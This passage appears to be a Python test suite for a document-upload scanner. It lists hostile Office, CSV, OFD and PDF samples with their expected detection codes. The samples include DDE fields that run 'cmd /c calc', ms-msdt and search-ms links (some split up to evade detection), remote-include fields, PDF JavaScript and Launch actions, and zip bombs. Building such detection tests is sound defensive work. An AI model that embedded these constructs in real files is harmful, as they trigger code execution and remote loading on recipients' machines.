            f"a field with a link to {link}",
            "a.docx",
            with_text(field(f' HYPERLINK "{link}" ')),
            "file-link",
        )
        for link in UNSAFE_LINKS
    ),
    Sample(
        "a field with a link in pieces",
        "a.docx",
        with_text(field(" HYPER", 'LINK "ms-', 'msdt:a" ')),
        "file-link",
    ),
    Sample(
        "a short field with a link",
        "a.docx",
        with_text(field("HYPERLINK search-ms:a", simple=True)),
        "file-link",
    ),
    Sample(
        "a link made by another field",
        "a.docx",
        with_text(nested_field(' HYPERLINK "', "QUOTE ms-msdt:a")),
        "file-link",
    ),
    Sample("DDE", "a.docx", with_text(field(' DDE "cmd" "/c calc" ')), "file-external"),
    Sample(
        "DDE that starts by itself",
        "a.docx",
        with_text(field(" DDE", "AUTO c:\\\\a.exe ")),
        "file-external",
    ),
    Sample(
        "DDE that starts by itself, in a short field",
        "a.docx",
        with_text(field("ddeauto a b", simple=True)),
        "file-external",
    ),
    Sample(
        "DDE in UTF-16",
        "a.docx",
        with_text(field(" DDEAUTO a ").decode().encode("utf-16")),
        "file-external",
    ),
    Sample(
        "DDE in a header",
        "a.docx",
        docx(word__header1_dot_xml=field(" DDEAUTO a ")),
        "file-external",
    ),
    Sample(
        "words made of numbers",
        "a.docx",
        with_text(nested_field(" SET C ", "QUOTE 68 68 69 65")),
        "file-external",
    ),
    Sample(
        "a text from another computer",
        "a.docx",
        with_text(field(' INCLUDETEXT "\\\\\\\\host\\\\a" ')),
        "file-external",
    ),
    Sample(
        "a picture from another computer",
        "a.docx",
        with_text(field(' INCLUDEPICTURE "\\\\\\\\host\\\\a.png" ')),
        "file-external",
    ),
    Sample(
        "a drawing that loads a picture",
        "a.docx",
        with_text(b"<w:d xmlns:w='w'><v src='file://host/a'/></w:d>"),
        "file-external",
    ),
    Sample(
        "a piece in another format",
        "a.docx",
        with_text(b"<w:d xmlns:w='w'><w:altChunk/></w:d>"),
        "file-embedded",
    ),
    Sample(
        "a piece in another format by relation",
        "a.docx",
        docx(relations=external("aFChunk", "a.html", "Internal")),
        "file-embedded",
    ),
    Sample(
        "a relation to another computer that does not say so",
        "a.docx",
        docx(relations=external("image", "//host/a", "Internal")),
        "file-external",
    ),
    Sample("DDE in a formula", "a.xlsx", sheet("cmd|'/c calc'!A0"), "file-external"),
    Sample(
        "DDE in a formula by references",
        "a.xlsx",
        sheet("c&#109;d&#124;'/c calc'!A0"),
        "file-external",
    ),
    Sample(
        "a formula that calls the web",
        "a.xlsx",
        sheet("WEBSERVICE(&quot;https://a.example&quot;)"),
        "file-external",
    ),
    Sample("a link in a formula", "a.xlsx", sheet("HYPERLINK(&quot;ms-msdt:a&quot;)"), "file-link"),
    Sample(
        "a link in a formula in pieces",
        "a.xlsx",
        sheet("HYPERLINK(&quot;ms-&quot;&amp;&quot;msdt:a&quot;)"),
        "file-link",
    ),
    Sample(
        "a sheet that talks to a program",
        "a.xlsx",
        packed(
            {"xl/workbook.xml": b"<w/>", "xl/externalLinks/externalLink1.xml": b"<e><ddeLink/></e>"}
        ),
        "file-external",
    ),
    Sample(
        "a slide that starts a program",
        "a.pptx",
        packed(
            {
                "ppt/presentation.xml": b"<p/>",
                "ppt/slides/slide1.xml": b"<p xmlns:a='a'><a:hlinkClick action='ppaction://program'/></p>",
            }
        ),
        "file-external",
    ),
    Sample(
        "a slide that runs a macro",
        "a.pptx",
        packed(
            {
                "ppt/presentation.xml": b"<p/>",
                "ppt/slides/slide1.xml": b"<p xmlns:a='a'><a:hlinkClick action='ppaction://macro?name=a'/></p>",
            }
        ),
        "file-macro",
    ),
    Sample(
        "an official document with a link to a program",
        "a.ofd",
        ofd(Doc_0__A_dot_xml=b"<o:A xmlns:o='o'><o:URI URI='ms-msdt:a'/></o:A>"),
        "file-link",
    ),
    Sample("DDE in a table of text", "a.csv", b"a,b\n1,=cmd|'/c calc'!A0\n", "file-external"),
    Sample(
        "DDE in an old document",
        "a.doc",
        ole("WordDocument", text="正文\x13 DDEAUTO c:\\\\a.exe \x14a\x15"),
        "file-external",
    ),
    Sample(
        "DDE in an old document, in 8-bit text",
        "a.doc",
        ole(data={"WordDocument": bytes(600) + b"\x13 DDE a \x15"}),
        "file-external",
    ),
    Sample(
        "a link in an old document",
        "a.doc",
        ole("WordDocument", text='\x13 HYPERLINK "ms-msdt:a" \x15'),
        "file-link",
    ),
    Sample(
        "an old document that is encrypted",
        "a.doc",
        ole(data={"WordDocument": bytes(11) + b"\x01"}),
        "file-encrypted",
    ),
    Sample(
        "an old sheet that is encrypted",
        "a.xls",
        ole(data={"Workbook": record(0x2F, bytes(6))}),
        "file-encrypted",
    ),
    Sample(
        "a sheet of old macros",
        "a.xls",
        ole(data={"Workbook": record(0x85, bytes(5) + b"\x01" + bytes(4))}),
        "file-macro",
    ),
    Sample(
        "an old sheet that talks to a program",
        "a.xls",
        ole(data={"Workbook": record(0x1AE, bytes(4) + b"\x00cmd\x03/c calc")}),
        "file-external",
    ),
    Sample(
        "an old sheet with a link to a program",
        "a.xls",
        ole(data={"Workbook": moniker("ms-msdt:a")}),
        "file-link",
    ),
    Sample(
        "an object that is only a link",
        "a.docx",
        docx(
            word__embeddings__o_dot_bin=ole(data={"\x01Ole": b"\x01\x00\x00\x02\x01\x00\x00\x00"})
        ),
        "file-external",
    ),
    Sample(
        "an old document that olefile cannot read",
        "a.doc",
        ole("WordDocument")[:700],
        "file-unreadable",
    ),
    # PDF files whose objects are all packed, with and without the word that says so.
    *(
        Sample(
            f"{what} in packed objects{'' if typed else ' that do not say so'}",
            "a.pdf",
            page_with(action, typed=typed),
            code,
        )
        for what, action, code in UNSAFE_ACTIONS
        for typed in (True, False)
    ),
    *(
        Sample(f"{what} in plain objects", "a.pdf", pdf(action), code)
        for what, action, code in UNSAFE_ACTIONS
    ),
    Sample(
        "a stream whose bytes are elsewhere",
        "a.pdf",
        pdf(b"<< /Length 0 /F (\\\\\\\\host\\\\a) >>\nstream\n\nendstream"),
        "file-external",
    ),
    Sample(
        "a base of all links",
        "a.pdf",
        pdf(b"<< /Type /Catalog /URI << /Base (ms-msdt:) >> >>"),
        "file-link",
    ),
    Sample(
        "a PDF without a table of contents",
        "a.pdf",
        b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n",
        "file-unreadable",
    ),
    # One budget for the whole upload.
    Sample(
        "an archive of PDF files that unpack to much more",
        "a.zip",
        archive_of_bombs(20),
        "archive-bomb",
    ),
    # PDF files with active content.
    Sample("a script", "a.pdf", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "pdf-script"),
    Sample(
        "a script on opening",
        "a.pdf",
        pdf(b"<< /OpenAction << /S/JavaScript/JS 7 0 R >> >>"),
        "pdf-script",
    ),
    Sample(
        "a script with escapes in its name", "a.pdf", pdf(b"<< /S /J#61vaScr#69pt >>"), "pdf-script"
    ),
    Sample("a script of a film", "a.pdf", pdf(b"<< /S /Rendition >>"), "pdf-script"),
    Sample("a script by its key only", "a.pdf", pdf(b"<< /JS (app.alert(1)) >>"), "pdf-script"),
    Sample(
        "a tree of scripts", "a.pdf", pdf(b"<< /Names << /JavaScript 9 0 R >> >>"), "pdf-script"
    ),
    Sample(
        "a script in an object stream",
        "a.pdf",
        pdf(object_stream(b"<< /S /JavaScript >>")),
        "pdf-script",
    ),
    Sample(
        "a script in a plain object stream",
        "a.pdf",
        pdf(object_stream(b"", b"", b"9 0 << /JS (x) >>")),
        "pdf-script",
    ),
    Sample(
        "a form of XML", "a.pdf", pdf(b"<< /AcroForm << /XFA [ (a) 9 0 R ] >> >>"), "pdf-script"
    ),
    Sample("a program to start", "a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "pdf-launch"),
    Sample(
        "a program in an object stream",
        "a.pdf",
        pdf(object_stream(b"<< /S /Launch >>")),
        "pdf-launch",
    ),
    Sample("a file inside", "a.pdf", pdf(b"<< /Type /EmbeddedFile >>"), "file-embedded"),
    Sample(
        "a tree of files", "a.pdf", pdf(b"<< /Names << /EmbeddedFiles 9 0 R >> >>"), "file-embedded"
    ),
    Sample("a file by its key only", "a.pdf", pdf(b"<< /EF << /F 9 0 R >> >>"), "file-embedded"),
    Sample(
        "an encrypted PDF", "a.pdf", pdf(trailer=b"/Root 1 0 R /Encrypt 9 0 R"), "file-encrypted"
    ),
    Sample(
        "objects packed in another way",
        "a.pdf",
        pdf(object_stream(b"", b"/Filter /LZWDecode", b"x")),
        "file-unreadable",
    ),
    Sample(
        "objects that do not unpack",
        "a.pdf",
        pdf(object_stream(b"", content=b"broken")),
        "file-unreadable",
    ),
    Sample(
        "objects whose filter stands elsewhere",
        "a.pdf",
        pdf(object_stream(b"", b"/Filter 9 0 R")),
        "file-unreadable",
    ),
    Sample(
        "objects with two filters",
        "a.pdf",
        pdf(object_stream(b"<<>>", b"/Filter /FlateDecode /Filter /LZWDecode")),
        "file-unreadable",
    ),
    Sample(
        "objects behind a word that hides their key",
        "a.pdf",
        pdf(object_stream(b"<<>>", b"/Xobj 1")),
        "file-unreadable",
    ),
    Sample(
        "objects behind a remark",
        "a.pdf",
        pdf(object_stream(b"<<>>").replace(b">>\nstream", b">>%\nstream")),
        "file-unreadable",
    ),
    Sample("escapes without end", "a.pdf", pdf(b"(" + b"#" * 4_000_001 + b")"), "file-unreadable"),
    Sample("a remark in an action", "a.pdf", pdf(b"<< /S %x\n /JavaScript >>"), "file-unreadable"),
]
